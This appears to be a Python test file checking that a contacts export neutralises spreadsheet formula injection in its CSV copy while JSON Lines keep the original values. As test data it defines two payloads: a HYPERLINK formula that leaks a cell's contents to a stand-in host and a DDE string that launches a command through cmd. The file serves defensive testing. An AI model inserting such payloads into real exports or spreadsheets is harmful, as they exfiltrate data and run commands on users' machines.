"""The export's CSV copy opens safely in a spreadsheet: a text that would run
as a formula is shown as text, while JSON Lines keep every value exactly."""
import csv
import io
import zipfile

from tests.api.exports import export_zip, read_export

HYPERLINK = '=HYPERLINK("http://x.test/?leak="&A1,"Asha")'
DDE = "-2+3+cmd|' /C calc'!A0"


def csv_rows(data: bytes, table: str) -> list[dict]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return list(csv.DictReader(io.StringIO(zf.read(f"csv/{table}.csv").decode())))


def test_formulas_are_shown_as_text_and_phone_numbers_stay_numbers(make_org):
    admin = make_org(region="IN")
    for name, company, phone in ((HYPERLINK, "@SUM(1)", "+91 98765 43210"), ("Ravi", DDE, "+1 (415) 555-0100")):
        response = admin.post("/api/v1/contacts", json={"name": name, "company": company, "phones": [phone]})
        assert response.status_code == 201, response.json
    data = export_zip(admin)
    by_name = {row["name"]: row for row in csv_rows(data, "contacts")}
    assert by_name["'" + HYPERLINK]["company"] == "'@SUM(1)"
    assert by_name["Ravi"]["company"] == "'" + DDE
    assert {row["e164"] for row in csv_rows(data, "record_phones")} == {"+919876543210", "+14155550100"}
    _, tables = read_export(data)
    assert {(c["name"], c["company"]) for c in tables["contacts"]} == {(HYPERLINK, "@SUM(1)"), ("Ravi", DDE)}
